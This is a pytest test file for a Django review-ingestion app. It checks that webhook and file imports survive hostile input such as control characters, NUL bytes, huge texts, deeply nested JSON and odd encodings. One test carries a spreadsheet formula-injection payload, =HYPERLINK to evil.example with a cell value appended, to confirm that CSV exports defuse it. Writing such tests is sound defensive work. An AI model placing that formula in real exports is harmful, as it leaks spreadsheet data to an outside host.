"""Hostile content at the door: control characters, giant texts, formulas, odd encodings, bad
ratings, deep JSON. Real files, the real webhook view, real exports."""

from __future__ import annotations

import codecs
import csv
import io
import json
import time
from datetime import date
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse

from vigie.conftest import Tenant
from vigie.connectors.actions import do_create_source
from vigie.connectors.builtin.webhook.connector import sign
from vigie.connectors.models import Source
from vigie.core.periods import period_between
from vigie.core.safe_text import MAX_MENTION_TEXT
from vigie.insights.exports import export_rows, write_xlsx
from vigie.insights.queries.filters import InsightFilters
from vigie.mentions.ingest import do_import_file
from vigie.mentions.models import Mention

SECRET = "hostile-secret-0123456789"
HEADER = "id,date,rating,author,text\n"


def _file_source(tenant: Tenant) -> Source:
    return do_create_source(tenant.organisation, platform="file", name="Fichier", config={})


def _post(client: Client, source: Source, body: bytes) -> tuple[int, dict[str, object]]:
    timestamp = str(int(time.time()))
    answer = client.post(
        reverse("source_webhook", args=[source.pk]),
        data=body,
        content_type="application/json",
        headers={"X-Vigie-Timestamp": timestamp, "X-Vigie-Signature": sign(SECRET, timestamp, body)},
    )
    return answer.status_code, answer.json()


@pytest.fixture
def hook(tenant: Tenant) -> Source:
    return do_create_source(tenant.organisation, platform="webhook", name="Hook", config={"secret": SECRET})


def test_control_characters_are_removed_and_the_xlsx_export_works(
    tenant: Tenant, hook: Source, tmp_path: Path
) -> None:
    item = {
        "id": "nul\x00-1",
        "created_at": "2026-11-02T10:00:00+01:00",
        "text": "Colis\x00 abîmé\x07, livreur\x1b injoignable\ud800\n\tfin",
        "title": "Titre\x00",
        "author": {"name": "Jean\x00 Dupont"},
    }
    status, answer = _post(Client(), hook, json.dumps({"items": [item]}).encode())
    assert status == 202, answer
    mention = Mention.objects.get(source=hook)
    assert mention.text == "Colis abîmé, livreur injoignable\ufffd\n\tfin"
    assert mention.title == "Titre"
    assert "\x00" not in json.dumps(mention.raw)
    period = period_between(tenant.organisation, date(2026, 11, 1), date(2026, 11, 3))
    target = tmp_path / "export.xlsx"
    with target.open("wb") as handle:
        write_xlsx(export_rows(tenant.organisation, "mentions", period, InsightFilters()), handle, "Mentions")
    from openpyxl import load_workbook  # type: ignore[import-untyped]

    cells = [c for row in load_workbook(target).active.iter_rows(values_only=True) for c in row]
    assert any(isinstance(c, str) and c.startswith("Colis abîmé") for c in cells)


def test_a_giant_text_is_cut_for_analysis_and_kept_whole_in_the_raw_payload(hook: Source) -> None:
    giant = "Service client lamentable. " * 80_000  # about 2 MB
    item = {"id": "giant", "created_at": "2026-11-02T10:00:00+01:00", "text": giant}
    status, _ = _post(Client(), hook, json.dumps({"items": [item]}).encode())
    assert status == 202
    mention = Mention.objects.get(source=hook)
    assert len(mention.text) == MAX_MENTION_TEXT
    assert mention.raw["full_text"] == giant.strip()


def test_deeply_nested_json_is_refused_with_400(hook: Source) -> None:
    for depth in (40, 100_000):
        body = b'{"items": [' + b'{"a":[' * depth + b"1" + b"]}" * depth + b"]}"
        status, answer = _post(Client(), hook, body)
        assert status == 400
        assert "nested" in str(answer["error"])
    assert not Mention.objects.filter(source=hook).exists()


def test_the_command_line_csv_export_neutralises_formulas(tenant: Tenant, hook: Source) -> None:
    item = {
        "id": "f1",
        "created_at": "2026-11-02T10:00:00+01:00",
        "text": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        "author": {"name": "@moi"},
    }
    assert _post(Client(), hook, json.dumps({"items": [item]}).encode())[0] == 202
    out = io.StringIO()
    call_command("export", "mentions", "--org", tenant.organisation.slug, "--format", "csv", stdout=out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Cliquez")' in cells
    assert "'@moi" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE), ("utf-8", codecs.BOM_UTF8), ("latin-1", b"")],
)  # fmt: skip
def test_imports_read_utf16_and_latin1_files(
    tenant: Tenant, tmp_path: Path, encoding: str, bom: bytes
) -> None:
    text = HEADER + "a1,2026-11-02,4,Zoé,Très déçu : colis abîmé\n"
    # "\x81" is not a CP1252 character: only Latin-1 reads such a file.
    if encoding == "latin-1":
        text = text.replace("Très", "Tr\x81s")
    path = tmp_path / "avis.csv"
    path.write_bytes(bom + text.encode(encoding))
    report = do_import_file(_file_source(tenant), path, rejects_path=tmp_path / "rejets.csv")
    assert (report.read, report.rejected, report.counts.new) == (1, 0, 1)
    mention = Mention.objects.get()
    assert mention.text.endswith("déçu : colis abîmé")
    assert mention.author is not None
    assert mention.author.display_name == "Zoé"


def test_an_out_of_scale_rating_is_rejected_with_its_line(tenant: Tenant, tmp_path: Path) -> None:
    path = tmp_path / "avis.csv"
    path.write_text(
        HEADER + "a1,2026-11-02,5,A,bien\na2,2026-11-02,99,B,faute de frappe\na3,2026-11-02,-1,C,?\n"
    )
    rejects = tmp_path / "rejets.csv"
    report = do_import_file(_file_source(tenant), path, rejects_path=rejects)
    assert (report.read, report.rejected, report.counts.new) == (3, 2, 1)
    lines = list(csv.reader(rejects.open(encoding="utf-8")))
    assert [line[0] for line in lines[1:]] == ["3", "4"]
    assert "99 is outside the scale 1–5" in lines[1][1]
    assert not Mention.objects.filter(rating__gt=5).exists()


def test_xlsx_extra_sheets_and_headerless_cells_are_reported(tenant: Tenant, tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    first = workbook.active
    first.append(["id", "date", "rating", "text"])
    first.append(["x1", "2026-11-02", 4, "Bien"])
    first.append(["x2", "2026-11-02", 3, "Moyen", "note perdue"])
    second = workbook.create_sheet("Feuil2")
    second.append(["id", "date", "text"])
    second.append(["y1", "2026-11-03", "Oublié ?"])
    path = tmp_path / "avis.xlsx"
    workbook.save(path)
    rejects = tmp_path / "rejets.csv"
    report = do_import_file(_file_source(tenant), path, rejects_path=rejects)
    assert report.counts.new == 1
    assert report.rejected == 2
    reasons = " | ".join(line[1] for line in csv.reader(rejects.open(encoding="utf-8")))
    assert "sheet 'Feuil2' (2 rows) not imported" in reasons
    assert "column 5, which has no header" in reasons


def test_an_import_reports_the_rows_whose_text_it_cut(tenant: Tenant, tmp_path: Path) -> None:
    path = tmp_path / "avis.csv"
    path.write_text(
        HEADER + f"long,2026-11-02,2,A,{'x' * (MAX_MENTION_TEXT + 10)}\ncourt,2026-11-02,4,B,ok\n"
    )
    rejects = tmp_path / "rejets.csv"
    report = do_import_file(_file_source(tenant), path, rejects_path=rejects)
    assert (report.counts.new, report.rejected, report.clamped) == (2, 0, 1)
    lines = list(csv.reader(rejects.open(encoding="utf-8")))
    assert lines[1][0] == "2"
    assert "text cut at 20000 characters" in lines[1][1]
    assert len(Mention.objects.get(external_id="long").text) == MAX_MENTION_TEXT


def test_a_nul_byte_in_one_row_costs_nothing_to_the_others(tenant: Tenant, tmp_path: Path) -> None:
    """The probe that stored 0 of 50 rows on PostgreSQL: now 50 of 50 (run with DATABASE_URL)."""
    path = tmp_path / "avis.csv"
    rows = "".join(
        f"n{n},2026-11-02,3,Client {n},Avis {n}{chr(0) if n == 25 else ''} fin\n" for n in range(50)
    )
    path.write_text(HEADER + rows)
    report = do_import_file(_file_source(tenant), path, rejects_path=tmp_path / "rejets.csv")
    assert (report.counts.new, report.rejected) == (50, 0)
    assert Mention.objects.get(external_id="n25").text == "Avis 25 fin"
